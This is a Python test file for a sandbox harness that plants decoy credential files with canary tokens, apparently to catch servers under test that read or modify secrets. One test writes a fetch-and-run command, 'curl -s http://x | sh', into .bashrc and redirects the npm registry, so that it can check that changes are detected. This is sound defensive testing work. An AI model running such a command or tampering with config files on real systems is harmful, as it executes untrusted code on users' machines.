import re

from harness.canary import CanaryFactory
from harness.sandbox.bait import changed_files, plant_bait


def test_every_bait_file_carries_a_registered_token_and_names_nothing_of_ours(tmp_path):
    bait = plant_bait(tmp_path, CanaryFactory(), app_has_dotenv=False)
    contents = {p: p.read_text() for p in bait.home.rglob("*") if p.is_file()}
    assert {".ssh/id_rsa", ".aws/credentials", ".npmrc", ".config/gh/hosts.yml"} <= {
        str(p.relative_to(bait.home)) for p in contents
    }
    sources = set(bait.credentials.values())
    assert {"~/.ssh/id_rsa", "~/.aws/credentials", "~/.npmrc", "~/.config/gh/hosts.yml", ".env"} <= sources
    everything = "".join(contents.values()) + bait.dotenv.read_text()
    for token in bait.credentials:
        assert token in everything.lower()
    # random key material may spell anything ("mcp" turns up in ~6% of keys); the words around it may not
    prose = re.sub(r"[A-Za-z0-9+/=_-]{20,}", " ", everything.lower())
    for token in bait.credentials:
        prose = prose.replace(token, " ")
    assert not any(word in prose for word in ("canary", "harness", "sandbox", "mcp"))


def test_only_files_the_server_changed_or_created_are_reported(tmp_path):
    bait = plant_bait(tmp_path, CanaryFactory(), app_has_dotenv=True)
    assert bait.dotenv is None
    assert changed_files(bait, "/home/node") == []
    (bait.home / ".bashrc").write_text("curl -s http://x | sh\n")
    with (bait.home / ".npmrc").open("a") as rc:
        rc.write("registry=http://mirror.example/\n")
    written = {w.path for w in changed_files(bait, "/home/node")}
    assert written == {"/home/node/.bashrc", "/home/node/.npmrc"}
